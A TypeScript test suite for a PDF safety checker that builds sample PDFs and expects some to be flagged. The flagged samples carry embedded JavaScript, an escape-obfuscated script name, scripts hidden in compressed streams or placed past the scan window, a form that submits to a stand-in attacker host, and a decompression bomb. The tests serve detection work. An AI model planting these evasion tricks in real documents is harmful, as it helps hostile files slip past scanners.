import zlib from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { isInert } from './inert-pdf';

/** A PDF of one page, with these objects beside. */
const pdf = (...objects: (string | Buffer)[]) =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n'),
    ...objects.map((object) => Buffer.from(object)),
    Buffer.from('\ntrailer<</Root 1 0 R>>\n%%EOF'),
  ]);
const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
const packed = (said: string, text: string | Buffer, change = (data: Buffer) => data, word = 'stream\n') =>
  Buffer.concat([
    Buffer.from(`3 0 obj<<${said}>>${word}`),
    change(zlib.deflateSync(text)),
    Buffer.from('\nendstream endobj\n'),
  ]);
const objects = '/Type/ObjStm/N 1/First 4/Filter/FlateDecode';

describe('a PDF', () => {
  it.each<[string, Buffer]>([
    ['of words', pdf(packed('/Filter/FlateDecode', 'BT (Bees make honey) Tj ET'))],
    ['with its objects packed', pdf(packed(objects, '5 0 <</Type/Page>>'))],
    [
      'with a table of places told by differences',
      pdf(packed('/Type/XRef/Filter/FlateDecode/DecodeParms<</Predictor 12>>', 'x')),
    ],
    [
      'with a picture that is no zlib',
      pdf('3 0 obj<</Subtype/Image/Filter/DCTDecode>>stream\n\xff\xd8\xff\nendstream endobj'),
    ],
    ['with a link', pdf('4 0 obj<</S/URI/URI(https://example.org/)>>endobj')],
    ['with words that only begin like those of a script', pdf('4 0 obj<</JSX 1/JavaScripts 2>>endobj')],
  ])('%s is inert', (_case, bytes) => {
    expect(isInert(bytes)).toBe(true);
  });

  it.each<[string, Buffer]>([
    ['a script', pdf(`4 0 obj${script}endobj`)],
    ['a script whose name is written in codes', pdf('4 0 obj<</S/J#61vaScript/#4a#53(x)>>endobj')],
    ['a packed script', pdf(packed(objects, `5 0 ${script}`))],
    ['a packed script behind a strange line', pdf(packed(objects, `5 0 ${script}`, undefined, 'stream %x\r\n'))],
    ['a packed script that breaks off', pdf(packed(objects, `5 0 ${script}`, (data) => data.subarray(0, -6)))],
    [
      'a packed script with a fault in it',
      pdf(packed(objects, `5 0 ${script}`.repeat(9), (data) => Buffer.from(data.fill(0xff, 30, 34)))),
    ],
    ['objects told by differences', pdf(packed(`${objects}/DecodeParms<</Predictor 12>>`, 'x'))],
    [
      'a kind that is told elsewhere',
      pdf(packed('/Type 9 0 R/Filter/FlateDecode/DecodeParms<</Predictor 12>>/Subtype/Image', 'x')),
    ],
    [
      'parts that are packed otherwise',
      pdf('4 0 obj<</Type/ObjStm/Filter[/ASCIIHexDecode]>>stream\n00>endstream endobj'),
    ],
    ['a key', pdf('4 0 obj<</Encrypt 5 0 R>>endobj')],
    ['a form that is sent', pdf('4 0 obj<</S/SubmitForm/F(https://evil.example/)>>endobj')],
    [
      'a script over the edge of what is searched at once',
      pdf('%'.padEnd(1024 * 1024 - 120, 'x'), `\n4 0 obj${script}endobj`),
    ],
    ['a part that becomes endless', pdf(packed(objects, Buffer.alloc(40 * 1024 * 1024)))],
  ])('with %s is not', (_case, bytes) => {
    expect(isInert(bytes)).toBe(false);
  });
});
